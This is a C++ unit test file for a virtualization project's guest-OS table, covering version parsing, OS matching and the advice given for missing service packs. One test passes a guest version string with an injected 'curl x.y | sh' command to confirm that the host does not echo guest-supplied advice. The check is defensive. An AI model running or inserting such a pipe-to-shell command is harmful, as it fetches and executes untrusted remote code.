#include "guests/guest_table.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <rapidcheck/gtest.h>

#include "config/guests_file.h"

namespace aerostat {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;

const GuestTable& table() {
  static const GuestTable made = compiled_in_guests().value();
  return made;
}

std::string row_of(const GuestSystem& system) {
  const GuestRow* row = table().find(system);
  return row ? row->id : "none";
}

TEST(VersionNumbers, AreReadAsFarAsTheyGo) {
  EXPECT_THAT(version_numbers("6.1.0-30-cloud-amd64"), ElementsAre(6, 1, 0));
  EXPECT_THAT(version_numbers("5.8"), ElementsAre(5, 8));
  EXPECT_THAT(version_numbers("7"), ElementsAre(7));
  EXPECT_THAT(version_numbers("1.2.3.4.5.6"), ElementsAre(1, 2, 3, 4));
  EXPECT_THAT(version_numbers("99999999999999999999"), ElementsAre(1'000'000));
  for (const char* none : {"", "x", "-1", ".5", "custom"})
    EXPECT_THAT(version_numbers(none), IsEmpty()) << none;
}

TEST(GuestTable, FindsTheFirstRowThatFits) {
  EXPECT_EQ(row_of({.os = "windows", .name = "Windows 7", .edition = "Ultimate", .arch = "x86"}),
            "windows-7-x86");
  EXPECT_EQ(row_of({.os = "WINDOWS", .name = "windows 7", .edition = "ultimate", .arch = "X86"}),
            "windows-7-x86");
  EXPECT_EQ(row_of({.os = "windows", .name = "Windows 7", .edition = "Home Basic", .arch = "x64"}),
            "windows-7-other-x64");
  EXPECT_EQ(row_of({.os = "windows", .name = "Windows 12", .arch = "x64"}), "windows-other");
  EXPECT_EQ(row_of({.os = "linux", .arch = "x86_64", .release = "5.7.19"}), "linux-2.6.32");
  EXPECT_EQ(row_of({.os = "linux", .arch = "x86_64", .release = "5.8.0"}), "linux-5.8");
  EXPECT_EQ(row_of({.os = "linux", .name = "Rocky Linux", .version = "8.10", .release = "4.18.0"}), "rhel-8");
  EXPECT_EQ(row_of({.os = "linux", .name = "Rocky Linux", .version = "80", .release = "4.18.0"}),
            "linux-2.6.32");
  EXPECT_EQ(row_of({.os = "plan9"}), "other");
  EXPECT_EQ(row_of({}), "other");
}

TEST(GuestTable, ReadsTheReleaseOfAKernelFromItsFirstNumbersAndByItsParts) {
  GuestRow vendor, between;
  vendor.id = "vendor";
  vendor.release_has = ".el9";
  between.id = "between";
  between.kernel_from = {5, 8};
  between.kernel_before = {6};
  const GuestTable rows({vendor, between});
  const auto found = [&rows](const std::string& release) {
    const GuestRow* row = rows.find({.release = release});
    return row ? row->id : "none";
  };
  EXPECT_EQ(found("5.14.0-427.el9.x86_64"), "vendor");
  EXPECT_EQ(found("6.1.0.el9"), "vendor");
  for (const char* within : {"5.8", "5.8-rc1", "5.8.0", "5.19.17"}) EXPECT_EQ(found(within), "between");
  for (const char* outside : {"5.7.19", "6", "6-rc1", "6.1.0", "el9", ""})
    EXPECT_EQ(found(outside), "none") << outside;
}

TEST(GuestTable, EveryRowSaysWhatAPersonNeedsAndWhereItIsFrom) {
  for (const GuestRow& row : table().rows()) {
    EXPECT_FALSE(row.title.empty() || row.install.empty() || row.least_service.empty()) << row.id;
    EXPECT_TRUE(row.general || !row.sources.empty()) << row.id << " says not where its facts are from";
    EXPECT_EQ(row.ability(GuestAbility::Balloon), Can::Yes) << row.id;
    EXPECT_TRUE(row.os == "linux" || row.run_on_real.empty())
        << row.id << ": only real Linux guests were run";
  }
}

TEST(GuestTable, TellsWhatIsMissingAndWhatToDo) {
  const auto standing = [](int pack, const char* service) {
    return table().standing({.os = "windows",
                             .name = "Windows Server 2003",
                             .edition = "Standard",
                             .service_pack = pack,
                             .arch = "x86"},
                            service, "0.1.0");
  };
  EXPECT_TRUE(standing(2, "0.1.0").takes_part());
  EXPECT_EQ(standing(0, "0.1.0").unfit, "Windows Server 2003 Standard x86 needs service pack 2 and has none");
  EXPECT_EQ(standing(1, "0.1.0").remedy, "install service pack 2 in the guest");
  EXPECT_THAT(standing(2, "0.0.9").unfit, HasSubstr("too old"));
  EXPECT_THAT(standing(2, "0.3").too_new, HasSubstr("newer than this host's 0.1.0"));
  EXPECT_EQ(standing(2, "0.3; curl x.y | sh").remedy, "update aerostat on the host to 0.3")
      << "a guest gives the host no advice";
  EXPECT_EQ(standing(2, "0.0.1 is fine, but").unfit.find("fine"), std::string::npos);
  EXPECT_TRUE(standing(2, "nonsense").takes_part()) << "an unreadable version is compared with nothing";
}

TEST(GuestTable, AnUnknownServicePackIsNoMissingOne) {
  EXPECT_TRUE(
      table()
          .standing({.os = "windows", .name = "Windows 7", .edition = "Ultimate", .arch = "x64"}, "", "1")
          .takes_part());
}

RC_GTEST_PROP(GuestTableProperty, StandsAnyText, (const std::string& a, const std::string& b, int pack)) {
  const GuestSystem system{.os = "windows",
                           .name = a,
                           .version = b,
                           .edition = b,
                           .service_pack = pack,
                           .arch = a,
                           .suite = b,
                           .release = b};
  RC_ASSERT(!table().standing(system, b, a).row.empty());
}

}  // namespace
}  // namespace aerostat
